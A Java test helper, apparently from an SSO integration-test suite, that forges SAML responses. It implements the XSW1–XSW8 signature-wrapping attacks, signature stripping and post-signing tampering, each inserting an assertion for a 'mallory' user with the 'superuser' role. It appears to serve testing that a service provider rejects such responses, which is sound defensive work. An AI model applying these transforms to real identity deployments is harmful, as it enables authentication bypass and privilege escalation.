package io.turnstile.it.sso;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;

import javax.xml.XMLConstants;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.transform.OutputKeys;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.dom.DOMSource;
import javax.xml.transform.stream.StreamResult;

import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * What an attacker holding one genuine, IdP-signed SAMLResponse can do to it: the signature-wrapping shapes XSW1–XSW8
 * (Somorovsky et al., "On Breaking SAML", USENIX Security 2012, numbered as SAML Raider does), stripping signatures,
 * changing a value. Each shape keeps a valid signature over the original element and puts an assertion for
 * {@code mallory@corp.example} where a careless SP would read it.
 */
final class SamlTampering {

    static final String P = "urn:oasis:names:tc:SAML:2.0:protocol";
    static final String A = "urn:oasis:names:tc:SAML:2.0:assertion";
    static final String DS = "http://www.w3.org/2000/09/xmldsig#";
    static final String MALLORY = "mallory@corp.example";

    private SamlTampering() {
    }

    static String xml(String samlResponse) {
        return new String(Base64.getMimeDecoder().decode(samlResponse), StandardCharsets.UTF_8);
    }

    static String base64(String xml) {
        return Base64.getEncoder().encodeToString(xml.getBytes(StandardCharsets.UTF_8));
    }

    static Document parse(String samlResponse) {
        try {
            DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();
            f.setNamespaceAware(true);
            f.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
            f.setAttribute(XMLConstants.ACCESS_EXTERNAL_DTD, "");
            return f.newDocumentBuilder().parse(new ByteArrayInputStream(xml(samlResponse).getBytes(StandardCharsets.UTF_8)));
        } catch (Exception e) {
            throw new IllegalStateException("not XML: " + e, e);
        }
    }

    /** Serialized as is: exclusive canonicalization makes the signatures indifferent to how the DOM is written. */
    static String encode(Document d) {
        try {
            var t = TransformerFactory.newInstance().newTransformer();
            t.setOutputProperty(OutputKeys.OMIT_XML_DECLARATION, "yes");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            t.transform(new DOMSource(d), new StreamResult(out));
            return Base64.getEncoder().encodeToString(out.toByteArray());
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static Element response(Document d) {
        return d.getDocumentElement();
    }

    static Element assertion(Document d) {
        return (Element) d.getElementsByTagNameNS(A, "Assertion").item(0);
    }

    /** The ds:Signature that is a direct child of {@code e}, or null. */
    static Element signatureOf(Element e) {
        for (Node n = e.getFirstChild(); n != null; n = n.getNextSibling()) {
            if (n instanceof Element c && DS.equals(c.getNamespaceURI()) && "Signature".equals(c.getLocalName())) {
                return c;
            }
        }
        return null;
    }

    static Element withoutSignature(Element e) {
        Element sig = signatureOf(e);
        if (sig != null) {
            e.removeChild(sig);
        }
        return e;
    }

    static Element unsignedCopy(Element e) {
        return withoutSignature((Element) e.cloneNode(true));
    }

    /** The attacker's assertion: another ID, NameID mallory, Role superuser. */
    static void makeEvil(Element assertion) {
        assertion.setAttribute("ID", "_evil" + assertion.getAttribute("ID"));
        assertion.getElementsByTagNameNS(A, "NameID").item(0).setTextContent(MALLORY);
        assertion.getElementsByTagNameNS(A, "AttributeValue").item(0).setTextContent("superuser");
    }

    private static Element extensionsOf(Document d) {
        Element extensions = d.createElementNS(P, "samlp:Extensions");
        response(d).insertBefore(extensions, response(d).getElementsByTagNameNS(P, "Status").item(0));
        return extensions;
    }

    // Response-level wrapping (the Response signature is what the attacker keeps).

    static void xsw1(Document d) {
        Element root = response(d);
        Element original = unsignedCopy(root);
        root.setAttribute("ID", "_evilresp");
        makeEvil(withoutSignature(assertion(d)));
        signatureOf(root).appendChild(original);
    }

    static void xsw2(Document d) {
        Element root = response(d);
        Element original = unsignedCopy(root);
        root.setAttribute("ID", "_evilresp");
        makeEvil(withoutSignature(assertion(d)));
        root.insertBefore(original, signatureOf(root));
    }

    // Assertion-level wrapping: the attacker drops the Response signature (SAML requires only one) and keeps the
    // Assertion's.

    static void xsw3(Document d) {
        withoutSignature(response(d));
        Element original = assertion(d);
        Element evil = unsignedCopy(original);
        makeEvil(evil);
        response(d).insertBefore(evil, original);
    }

    static void xsw4(Document d) {
        withoutSignature(response(d));
        Element original = assertion(d);
        Element evil = unsignedCopy(original);
        makeEvil(evil);
        response(d).replaceChild(evil, original);
        evil.appendChild(original);
    }

    static void xsw5(Document d) {
        withoutSignature(response(d));
        Element evil = assertion(d);
        Element original = unsignedCopy(evil);
        makeEvil(evil);
        response(d).appendChild(original);
    }

    static void xsw6(Document d) {
        withoutSignature(response(d));
        Element evil = assertion(d);
        Element original = unsignedCopy(evil);
        makeEvil(evil);
        signatureOf(evil).appendChild(original);
    }

    static void xsw7(Document d) {
        withoutSignature(response(d));
        Element original = assertion(d);
        Element evil = unsignedCopy(original);
        makeEvil(evil);
        response(d).replaceChild(evil, original);
        extensionsOf(d).appendChild(original);
    }

    static void xsw8(Document d) {
        withoutSignature(response(d));
        Element evil = assertion(d);
        Element original = unsignedCopy(evil);
        makeEvil(evil);
        Element object = d.createElementNS(DS, "ds:Object");
        object.appendChild(original);
        signatureOf(evil).appendChild(object);
    }

    static void unsigned(Document d) {
        withoutSignature(response(d));
        withoutSignature(assertion(d));
    }

    /** A Role value changed after signing; the signatures are left as they were. */
    static void attributeChanged(Document d) {
        assertion(d).getElementsByTagNameNS(A, "AttributeValue").item(0).setTextContent("superuser");
    }
}
